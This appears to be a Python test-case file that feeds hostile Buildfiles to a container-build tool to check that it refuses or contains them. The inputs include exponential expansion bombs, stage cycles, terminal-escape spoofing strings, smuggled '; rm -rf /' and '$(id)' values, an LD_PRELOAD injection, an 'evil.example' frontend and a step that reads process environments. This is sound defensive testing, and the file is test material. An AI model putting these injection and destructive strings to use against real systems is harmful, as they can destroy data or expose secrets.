"""Cases: Buildfiles whose text itself is the attack: endless, exponential, cyclic, unterminated, or painted."""

from __future__ import annotations

import base64

from tests.hostile.buildfiles import BuildCase, Ground
from tests.hostile.contexts import both, files
from tests.hostile.outcomes import Accepted, Contained, Refused

BUILDFILE = 3
USAGE = 2
PAINT = "\x1b[2J\x1b]0;owned\x07\r\x9b31m\u202e\u2066"


def _scratch(*lines: str) -> str:
    return "FROM scratch\n" + "\n".join(lines) + "\n"


_DOUBLING = [f"ENV A{n}=$A{n - 1}$A{n - 1}" for n in range(1, 65)]
GROWTH = (
    BuildCase("ENV that doubles 64 times", _scratch("ENV A0=xxxxxxxx", *_DOUBLING), Refused("characters", BUILDFILE)),
    BuildCase(
        "ARG that doubles 64 times",
        "ARG A0=xxxxxxxx\n" + "\n".join(line.replace("ENV", "ARG") for line in _DOUBLING) + "\nFROM $A64\n",
        Refused("characters", BUILDFILE),
    ),
    BuildCase(
        "ENV that grows by replacing",
        _scratch("ENV A=" + "a" * 1000, *[f"ENV A=${{A//a/{'a' * 50}}}"] * 6),
        Refused("characters", BUILDFILE),
    ),
    BuildCase("ARG of itself", "ARG A=$A\nARG A=${A}$A\nFROM scratch\nARG A=$A\nENV A=$A\n", Accepted()),
    BuildCase(
        "variables 10,000 deep", _scratch("ENV A=" + "${A:-" * 10_000 + "}" * 10_000), Refused("deep", BUILDFILE)
    ),
    BuildCase("defaults that repeat", _scratch("ENV A=" + "${A:-x}" * 20_000), Contained()),
    BuildCase(
        "a pattern that backtracks", _scratch("ENV A=" + "a" * 5000, "ENV B=${A##*a*a*a*a*a*a*a*b}"), Contained()
    ),
    BuildCase(
        "LABELs that double",
        _scratch("ENV A=" + "x" * 1000, *[f"LABEL l{n}=" + "$A" * 900 for n in range(40)]),
        Contained(),
    ),
    BuildCase("100,000 lines", _scratch(*(f"ENV A={n % 7}" for n in range(20_000)), *["# x"] * 80_000), Contained()),
    BuildCase("3,000 labels", _scratch(*(f"LABEL a{n}=b" for n in range(3_000))), Contained()),
    BuildCase("a line of 50 MB", b"FROM scratch\nENV A=" + b"x" * (50 << 20), Refused("larger than", BUILDFILE)),
    BuildCase("a line of 7 MB", b"FROM scratch\nENV A=" + b"x" * (7 << 20), Contained()),
    BuildCase("a line of 100,000 continuations", "FROM scratch\nENV A=x" + "\\\n x" * 100_000, Contained()),
    BuildCase(
        "a heredoc of 100 MB", b"FROM scratch\nCOPY <<E /f\n" + b"x\n" * (50 << 20) + b"E\n", Refused("larger", 3)
    ),
    BuildCase("a heredoc of 6 MB", b"FROM scratch\nCOPY <<E /f\n" + (b"x" * 99 + b"\n") * 60_000 + b"E\n", Accepted()),
    BuildCase(
        "1,000 heredocs",
        _scratch("COPY " + " ".join(f"<<E{n}" for n in range(1000)) + " /d/", *(f"E{n}" for n in range(1000))),
        Contained(),
    ),
    BuildCase(
        "10,000 stages",
        "FROM scratch AS a0\n" + "".join(f"FROM a{n} AS a{n + 1}\n" for n in range(10_000)),
        Contained(),
    ),
    BuildCase(
        "a stage that takes from 3,000",
        "".join(f"FROM scratch AS a{n}\n" for n in range(3000))
        + _scratch(*(f"COPY --from=a{n} / /" for n in range(0, 3000, 30))),
        Contained(),
    ),
    BuildCase("10,000 words", _scratch("COPY " + "f " * 10_000 + "/d/"), Contained(), files(f="x")),
    BuildCase("EXPOSE of all ports, often", _scratch(*["EXPOSE 0-65535/tcp 0-65535/udp"] * 20), Contained()),
    BuildCase("a JSON list 100,000 deep", _scratch("CMD " + "[" * 100_000 + "]" * 100_000), Contained()),
    BuildCase("a JSON number of 10,000 digits", _scratch("CMD [" + "9" * 10_000 + "]"), Contained()),
)

CYCLES = (
    BuildCase("a stage of itself", "FROM a AS a\n", Contained()),
    BuildCase("stages in a ring", "FROM b AS a\nFROM a AS b\n", Contained()),
    BuildCase("COPY --from its own stage", "FROM scratch AS a\nCOPY --from=a / /\n", Contained()),
    BuildCase("COPY --from its own number", "FROM scratch\nCOPY --from=0 / /\n", Refused("", BUILDFILE)),
    BuildCase("COPY --from a later stage", "FROM scratch AS a\nCOPY --from=1 / /\nFROM scratch\n", Contained()),
    BuildCase("COPY --from a number that is huge", "FROM scratch\nCOPY --from=" + "9" * 5000 + " / /\n", Contained()),
    BuildCase("a mount from its own stage", "FROM @BASE@ AS a\nRUN --mount=from=a,target=/x true\n", Contained()),
    BuildCase("ONBUILD ONBUILD", _scratch("ONBUILD ONBUILD RUN true"), Refused("", BUILDFILE)),
    BuildCase("ONBUILD FROM", _scratch("ONBUILD FROM x"), Refused("", BUILDFILE)),
    BuildCase(
        "a named context of itself", "FROM a\n", Contained(), words=("--build-context", "a=docker-image://a", ".")
    ),
)

UNFINISHED = tuple(
    BuildCase(f"unfinished: {text[:40]!r}", _scratch(text), Contained())
    for text in (
        "COPY <<EOF /f\nnever",
        "RUN <<'EOF",
        "RUN <<",
        "COPY <<-E <<F <<G /d/\nE\nF",
        'ENV A="',
        "ENV A='",
        "ENV A=${",
        "ENV A=${A",
        "ENV A=${A:-",
        "ENV A=${A//",
        "ENV A=\\",
        'CMD ["a',
        'CMD ["a",]',
        'COPY ["a", ',
        "RUN --mount=",
        "RUN --mount",
        "LABEL",
        "HEALTHCHECK",
        "ONBUILD",
        "ENV",
        "FROM",
        "COPY",
        "\\",
        "`",
    )
)

NONSENSE = tuple(
    BuildCase(f"nonsense: {text[:50]!r}", _scratch(text), Contained())
    for text in (
        "HEALTHCHECK --interval=-1s CMD x",
        "HEALTHCHECK --interval=" + "9" * 400 + "h CMD x",
        "HEALTHCHECK --retries=99999999999999999999 CMD x",
        "HEALTHCHECK --interval=1e999s CMD x",
        "HEALTHCHECK NONE x",
        "HEALTHCHECK CMD",
        "EXPOSE 65536",
        "EXPOSE -1",
        "EXPOSE 1-99999999999",
        "EXPOSE 80/" + "x" * 5000,
        "EXPOSE ::::",
        "EXPOSE ²/tcp",
        "STOPSIGNAL SIGNOPE",
        "STOPSIGNAL 99999999999",
        "STOPSIGNAL " + PAINT,
        "SHELL sh",
        "SHELL []",
        'SHELL ["\\u0000"]',
        'CMD ["\\u0000", "\\ud800"]',
        "USER",
        "WORKDIR " + "../" * 3000,
        "WORKDIR C:\\\\Windows\\\\system32",
        "COPY f C:\\\\x\\\\",
        "LABEL " + PAINT + "=x",
        "LABEL =x",
        "ENV =x",
        "ENV A" + PAINT + "=x",
        "ENV LD_PRELOAD=/evil.so PATH= HOME=\\n",
        'VOLUME ["' + "../" * 40 + '"]',
        "MAINTAINER " + PAINT,
        "FROM " + PAINT,
        "FROM x AS " + PAINT,
        "FROM scratch AS ../../x",
        "FROM --platform=" + PAINT + " scratch",
        "FROM --platform=../.. scratch",
        "RUN --network=evil true",
        "RUN --security=insecure true",
        "RUN --security=" + PAINT + " true",
        "ADD --checksum=sha256:../../../../x http://127.0.0.1:1/x /",
        "ADD http://127.0.0.1:1/" + PAINT + " /",
        "ADD file:///etc/passwd /",
        "ADD ftp://x/y /",
        "ADD http://[::1 /",
        "ADD http://127.0.0.1:99999/x /",
        "ADD gopher://x@y:z/ /",
        "COPY --chmod=99999 f /",
        "COPY --chmod=u+" + "s" * 5000 + " f /",
        "COPY --from=" + PAINT + " f /",
        "COPY <<$(id) /f\nx\n$(id)",
        "COPY <<../../x /d/\nx\n../../x",
        'COPY <<"; rm -rf /" /d/\nx\n; rm -rf /',
        "COPY <<" + PAINT + " /d/\nx\n" + PAINT,
        'COPY <<"a/b" /d/\nx\na/b',
        "EVIL " + PAINT,
        PAINT,
    )
)

DIRECTIVES = (
    *(
        BuildCase(f"directive {text[:40]!r}", f"# {text}\nFROM scratch\nENV A=b\n", Contained())
        for text in (
            "syntax=evil.example/frontend:1",
            "syntax=../../../bin/sh",
            "syntax=docker/dockerfile:1@sha256:" + "0" * 64,
            "syntax=" + PAINT,
            "syntax=" + "x" * 100_000,
            "syntax=a\n# syntax=b",
            "escape=",
            "escape=xx",
            "escape=$",
            "escape=`\n# escape=\\",
            "escape=" + PAINT,
            "check=skip=all;error=true",
            "check=" + PAINT,
            "check=skip=" + "a," * 100_000,
            "check=error=maybe",
            "check=;;;;==",
        )
    ),
    BuildCase("an escape that is a quote", '# escape="\nFROM scratch\nENV A="\n', Contained()),
    BuildCase("UTF-16 with a mark", "FROM scratch\n".encode("utf-16"), Refused("text", BUILDFILE)),
    BuildCase("UTF-16 without", "FROM scratch\n".encode("utf-16-le"), Refused("text", BUILDFILE)),
    BuildCase("UTF-7", b"FROM scratch\nENV A=+AFs-x\n", Accepted()),
    BuildCase("UTF-8 with a mark", b"\xef\xbb\xbfFROM scratch\nENV A=b\n", Accepted()),
    BuildCase("a NUL", b"FROM scratch\0\nENV A=b\n", Refused("NUL", BUILDFILE)),
    BuildCase("bytes", b"FROM scratch\nENV A=\xff\xfe\n", Refused("UTF-8", BUILDFILE)),
    BuildCase("overlong UTF-8", b"FROM scratch\nENV A=\xc0\xaf\n", Refused("UTF-8", BUILDFILE)),
    BuildCase("line ends of all kinds", b"FROM scratch\r\nENV A=b\rENV C=d\x0bENV E=f\x0c\x85\n", Contained()),
    BuildCase("nothing", b"", Refused("", BUILDFILE)),
    BuildCase("white space", b" \n\t\r\n", Refused("", BUILDFILE)),
    BuildCase("a program", b"\x7fELF" + bytes(4000), Refused("", BUILDFILE)),
)

_LOOKS = (("images",), ("history", "x:1"), ("inspect", "x:1"), ("ls", "x:1"), ("diff", "x:1", "x:1"), ("du",))
_LINE = PAINT.replace("\r", "")  # a carriage return is an end of a line to some
_PAINTED = f"""\
FROM @BASE@
LABEL "a{_LINE}"="{_LINE}"
ENV A="{_LINE}"
MAINTAINER {_LINE}
RUN echo "{_LINE}"; busybox printf 'x\\033[2J\\r\\033]0;y\\007\\n' >&2; touch "/x{_LINE}"
CMD ["{_LINE}"]
"""
SHOWN = (
    BuildCase("a build that paints everywhere", _PAINTED, Contained(), words=("-t", "x:1", "."), then=_LOOKS),
    BuildCase("a step that paints and fails", f"FROM @BASE@\nRUN echo '{_LINE}'; exit 3\n", Refused("", 1)),
    BuildCase(
        "a step that prints no line end, and much",
        "FROM @BASE@\nRUN head -c 100000 /dev/zero; head -c 30000 /dev/urandom; exit 1\n",
        Refused("", 1),
    ),
    BuildCase(
        "plain progress of a step that paints",
        _PAINTED,
        Contained(),
        words=("--progress=plain", "."),
    ),
    *(
        BuildCase(f"{flag} {value[:30]!r}", _scratch("ARG A", "ENV B=$A"), outcome, words=(flag, value, "."))
        for flag, value, outcome in (
            ("-t", PAINT, Refused("", USAGE)),
            ("-t", "../../x", Refused("", USAGE)),
            ("-t", "x:" + "y" * 5000, Refused("", USAGE)),
            ("-t", "x@sha256:" + "../" * 21 + "x", Refused("", USAGE)),
            ("-t", "X:1\n", Refused("", USAGE)),
            ("--build-arg", "A=" + PAINT, Accepted()),
            ("--build-arg", "A=" + "x" * 120_000, Contained()),
            ("--build-arg", PAINT + "=x", Refused("", USAGE)),
            ("--build-arg", "=x", Refused("", USAGE)),
            ("--build-arg", "A=\\0$A${A}$(id)`id`", Accepted()),
            ("--label", PAINT + "=" + PAINT, Contained()),
            ("--annotation", PAINT + "=" + PAINT, Contained()),
            ("--target", PAINT, Refused("", USAGE)),
            ("--platform", PAINT, Refused("", USAGE)),
            ("--add-host", PAINT, Refused("", USAGE)),
            ("--network", PAINT, Refused("", USAGE)),
            ("--secret", "id=" + PAINT + ",src=/nope", Refused("", USAGE)),
            ("--build-context", PAINT + "=x", Contained()),
        )
    ),
)


def _weak_png(ground: Ground) -> None:
    (ground.context / "Buildfile").write_bytes(base64.b64decode("iVBORw0KGgo="))


MORE = (
    BuildCase("a picture", None, Refused("", BUILDFILE), both(_weak_png)),
    BuildCase(
        "a step with a NUL in its command by a heredoc", b"FROM scratch\nRUN <<E\n\x00\nE\n", Refused("NUL", BUILDFILE)
    ),
    BuildCase("a command of a megabyte", "FROM @BASE@\nRUN true " + "x" * (1 << 20) + "\n", Contained()),
    BuildCase(
        "an environment of 2 MB",
        "FROM @BASE@\nENV A=" + "x" * (1 << 17) + "\nENV B=$A$A C=$A$A\nRUN true\n",
        Contained(),
    ),
    BuildCase(
        "a step that looks for us",
        "FROM @BASE@\nRUN cat /proc/1/environ /proc/*/environ | grep -c PYBUILD; ls -la /proc/self/fd; true\n",
        Accepted(),
    ),
)

CASES = (*GROWTH, *CYCLES, *UNFINISHED, *NONSENSE, *DIRECTIVES, *SHOWN, *MORE)
